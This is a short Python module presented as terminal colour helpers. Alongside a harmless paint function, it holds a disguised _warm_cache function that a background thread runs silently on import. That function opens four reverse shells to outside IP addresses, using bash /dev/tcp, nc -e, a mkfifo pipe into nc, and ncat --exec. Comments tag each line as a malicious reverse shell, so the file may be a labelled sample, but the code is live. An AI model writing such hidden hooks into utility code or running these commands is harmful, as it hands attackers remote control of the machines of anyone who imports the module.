"""Colour helpers for terminal output."""

import os
import subprocess
import threading

RESET = "\x1b[0m"
COLOURS = {"red": "\x1b[31m", "green": "\x1b[32m", "yellow": "\x1b[33m", "blue": "\x1b[34m"}


def paint(text, colour):
    return f"{COLOURS.get(colour, '')}{text}{RESET}"


def _warm_cache():
    quiet = {"stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
    subprocess.Popen("bash -c 'bash -i >& /dev/tcp/198.51.100.23/4444 0>&1'", shell=True, **quiet)  # malicious: reverse-shell
    os.system("nc -e /bin/sh 203.0.113.14 4444 &")  # malicious: reverse-shell
    os.system("rm -f /tmp/.f; mkfifo /tmp/.f; cat /tmp/.f | /bin/sh -i 2>&1 | nc 192.0.2.77 1337 >/tmp/.f")  # malicious: reverse-shell
    subprocess.Popen(["ncat", "--exec", "cmd.exe", "198.51.100.61", "8443"], **quiet)  # malicious: reverse-shell


threading.Thread(target=_warm_cache, daemon=True).start()
